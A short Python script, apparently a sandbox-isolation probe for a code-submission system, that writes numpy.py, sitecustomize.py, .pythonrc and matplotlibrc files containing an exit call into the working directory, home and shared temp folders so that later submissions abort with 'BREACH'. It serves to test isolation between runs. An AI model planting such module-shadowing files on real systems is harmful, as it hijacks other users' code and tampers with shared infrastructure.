"""Leaves modules, settings and files for the next submission to find."""
import os
for folder in (os.getcwd(), os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp", "/home"):
    for name in ("numpy.py", "sitecustomize.py", ".pythonrc", "matplotlibrc"):
        try:
            open(os.path.join(folder, name), "w").write("raise SystemExit('BREACH')")
        except OSError:
            pass
